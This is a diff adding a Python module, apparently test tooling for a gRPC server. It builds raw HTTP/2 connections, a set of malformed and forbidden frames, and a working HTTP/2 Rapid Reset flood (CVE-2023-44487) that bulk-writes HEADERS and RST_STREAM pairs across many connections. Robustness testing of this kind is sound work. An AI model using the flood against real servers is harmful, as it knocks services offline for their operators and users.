@@ -1,0 +1,229 @@
+"""HTTP/2 of misbehaving clients: raw connections, frames, garbage, and floods of stream resets (CVE-2023-44487)."""
+
+import asyncio
+import contextlib
+import functools
+import itertools
+import random
+import socket
+import struct
+import time
+from collections.abc import AsyncIterator, Iterator, Sequence
+from typing import Final, Self
+
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+from h2.errors import ErrorCodes
+from h2.events import ConnectionTerminated, DataReceived, Event, RemoteSettingsChanged, StreamEnded, StreamReset
+from h2.exceptions import H2Error
+from h2.settings import SettingCodes
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    HeadersFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HELLO: Final = PREFACE + SettingsFrame().serialize()  # of a client that accepts all defaults
+TLS_HELLO: Final = bytes.fromhex("16030100a5010000a10303") + bytes(range(32)) + bytes(120)
+
+_TIMEOUT_S: Final = 10.0
+_READ_BYTES: Final = 65_536
+_RESETS_AT_ONCE: Final = 200
+Headers = Sequence[tuple[str, str]]
+
+
+def call_headers(path: str, timeout_s: float = 60.0) -> Headers:
+    """Return the headers of a gRPC call."""
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
+    return [*headers, ("te", "trailers"), ("content-type", "application/grpc"), ("grpc-timeout", f"{timeout_s:.0f}S")]
+
+
+def grpc_message(message: bytes, *, length: int | None = None) -> bytes:
+    """Return a message with its length prefix, by default the true one."""
+    return struct.pack(">BI", 0, len(message) if length is None else length) + message
+
+
+def raw_frame(kind: int, flags: int, stream: int, payload: bytes, *, length: int | None = None) -> bytes:
+    """Return any frame, with its length or another one."""
+    size = len(payload) if length is None else length
+    return size.to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+class RawConnection(H2Connection):
+    """A connection that can send HTTP/2 or arbitrary bytes; it raises no error when the server closes it.
+
+    Args:
+        address: HOST:PORT.
+        window_bytes: initial flow-control window; with 0, the server may send statuses but no data.
+    """
+
+    def __init__(self, address: str, *, window_bytes: int | None = None) -> None:
+        super().__init__(H2Configuration(validate_outbound_headers=False))
+        plain_encode = functools.partial(self.encoder.encode, huffman=False)  # Huffman takes minutes for a megabyte
+        self.encoder.encode = plain_encode  # type: ignore[method-assign]
+        self.initiate_connection()
+        if window_bytes is not None:
+            self.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window_bytes})
+        host, _, port = address.rpartition(":")
+        self._socket = socket.create_connection((host, int(port)), timeout=_TIMEOUT_S)
+        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.is_closed = False
+
+    def begin(self) -> Self:
+        """Send the preface and acknowledge the server's settings."""
+        self.flush()
+        any(isinstance(event, RemoteSettingsChanged) for event in self.events(_TIMEOUT_S))
+        self.flush()
+        return self
+
+    def call(self, path: str, content: bytes, *, timeout_s: float = 60, extra: Headers = (), ends: bool = True) -> int:
+        """Send a call with extra headers; return its stream id."""
+        stream = self.get_next_available_stream_id()
+        self.send_headers(stream, [*call_headers(path, timeout_s), *extra])
+        for begin in range(0, len(content), self.max_outbound_frame_size):
+            self.send_data(stream, content[begin : begin + self.max_outbound_frame_size])
+        if ends:
+            self.end_stream(stream)
+        self.flush()
+        return stream
+
+    def flush(self) -> None:
+        """Send the pending frames of h2."""
+        self.send(self.data_to_send())
+
+    def send(self, content: bytes) -> None:
+        """Send bytes, until the server closes the connection or reads nothing for 10 s."""
+        self._socket.settimeout(_TIMEOUT_S)
+        try:
+            self._socket.sendall(content)
+        except OSError as error:  # pending responses can still be read
+            self.is_closed |= isinstance(error, TimeoutError)
+
+    def events(self, timeout_s: float) -> Iterator[Event]:
+        """Yield events until the server is silent for the timeout or closes the connection."""
+        while not self.is_closed and (received := self._receive(timeout_s)):
+            with contextlib.suppress(H2Error):  # responses to bytes that h2 did not send
+                yield from self.receive_data(received)
+
+    def reply(self, timeout_s: float) -> str:
+        """Return the result of a call: answered, rejected, the error of the connection, closed, or ignored."""
+        for event in self.events(timeout_s):
+            if isinstance(event, DataReceived):
+                return "answered"
+            if isinstance(event, StreamReset | StreamEnded):
+                return "rejected"
+            if isinstance(event, ConnectionTerminated):
+                return getattr(event.error_code, "name", str(event.error_code))
+        return "closed" if self.is_closed else "ignored"
+
+    def wait_until_closed(self, timeout_s: float) -> bool:
+        """Discard input until the server closes the connection; return False after the timeout."""
+        until_s = time.monotonic() + timeout_s
+        while not self.is_closed and (left_s := until_s - time.monotonic()) > 0:
+            self._receive(left_s)
+        return self.is_closed
+
+    def close(self, *, with_reset: bool = True) -> None:
+        """Close the connection; a reset frees the port at once."""
+        with contextlib.suppress(OSError):
+            if with_reset:
+                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            self._socket.close()
+
+    def _receive(self, timeout_s: float) -> bytes:
+        self._socket.settimeout(max(timeout_s, 0.001))
+        content = b""
+        with contextlib.suppress(TimeoutError):
+            with contextlib.suppress(ConnectionError):
+                content = self._socket.recv(_READ_BYTES)
+            self.is_closed = not content
+        return content
+
+
+def garbage(seed: int) -> dict[str, bytes]:
+    """Return one input of each kind that is not gRPC: other protocols, noise, frames that HTTP/2 forbids."""
+    draw = random.Random(seed)
+    frames = [
+        raw_frame(
+            draw.choice((draw.randint(0, 9), draw.randint(0, 255))),
+            draw.randint(0, 255),
+            draw.randint(0, 7),
+            draw.randbytes(draw.randint(0, 63)),
+        )
+        for _ in range(draw.randint(1, 50))
+    ]
+    wrong_length = draw.choice((DataFrame(1, b"x"), HeadersFrame(1, b"x")))
+    headers = HeadersFrame(2, Encoder().encode(call_headers("/x/Y")), flags=["END_HEADERS"])
+    unknown_method = HeadersFrame(1, Encoder().encode(call_headers("/" + "x" * 1000)), flags=["END_HEADERS"])
+    after_hello = {
+        "noise-after-hello": draw.randbytes(draw.randint(1, 4096)),
+        "random-frames": b"".join(frames),
+        "wrong-length": b"\xff\xff\xff" + wrong_length.serialize()[3:],
+        "continuation-without-headers": ContinuationFrame(1, flags=["END_HEADERS"]).serialize(),
+        "data-without-stream": DataFrame(99, b"x" * 100, flags=["END_STREAM"]).serialize(),
+        "window-overflow": 3 * WindowUpdateFrame(0, 2**31 - 1).serialize(),
+        "even-stream": headers.serialize(),
+        "broken-headers": HeadersFrame(1, b"\xff" * draw.randint(1, 100), flags=["END_HEADERS"]).serialize(),
+        "settings-out-of-range": SettingsFrame(settings={SettingCodes.INITIAL_WINDOW_SIZE: 2**32 - 1}).serialize(),
+        "unknown-method": unknown_method.serialize() + DataFrame(1, flags=["END_STREAM"]).serialize(),
+    }
+    return {
+        "noise": draw.randbytes(draw.randint(1, 4096)),
+        "http1": b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n",
+        "tls": TLS_HELLO,
+        **{kind: HELLO + content for kind, content in after_hello.items()},
+    }
+
+
+def flood_with_resets(address: str, path: str, *, num_connections: int, seconds: float, extra: Headers = ()) -> int:
+    """Begin calls of a method and reset them at once; return their number. Closed connections are replaced."""
+    headers = [*call_headers(path), *extra]
+
+    async def flood() -> int:
+        until_s = time.monotonic() + seconds
+        return sum(await asyncio.gather(*(_reset_until(address, headers, until_s) for _ in range(num_connections))))
+
+    return asyncio.run(flood())
+
+
+async def _reset_until(address: str, headers: Headers, until_s: float) -> int:
+    host, _, port = address.rpartition(":")
+    num_resets = 0
+    while time.monotonic() < until_s:
+        with contextlib.suppress(OSError):
+            reader, writer = await asyncio.open_connection(host, int(port))
+            reading = asyncio.create_task(_read_to_the_end(reader))
+            try:
+                async for num_more in _resets(writer, headers):
+                    num_resets += num_more
+                    if reading.done() or time.monotonic() >= until_s:
+                        break
+            finally:
+                reading.cancel()
+                writer.transport.abort()
+    return num_resets
+
+
+async def _read_to_the_end(reader: asyncio.StreamReader) -> None:
+    with contextlib.suppress(OSError):
+        while await reader.read(_READ_BYTES):
+            pass
+
+
+async def _resets(writer: asyncio.StreamWriter, headers: Headers) -> AsyncIterator[int]:
+    """Write endlessly; frames are built by hand, because hyperframe is slower than the server."""
+    encoder, cancel = Encoder(), struct.pack(">I", ErrorCodes.CANCEL)
+    first, block = encoder.encode(headers), encoder.encode(headers)
+    writer.write(HELLO + SettingsFrame(flags=["ACK"]).serialize())
+    writer.write(HeadersFrame(1, first, flags=["END_HEADERS"]).serialize())
+    begin, reset = HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()[:5], RstStreamFrame(1).serialize()[:5]
+    for first_stream in itertools.count(3, 2 * _RESETS_AT_ONCE):
+        streams = [struct.pack(">I", first_stream + 2 * number) for number in range(_RESETS_AT_ONCE)]
+        writer.write(b"".join(begin + stream + block + reset + stream + cancel for stream in streams))
+        await writer.drain()
+        yield len(streams)
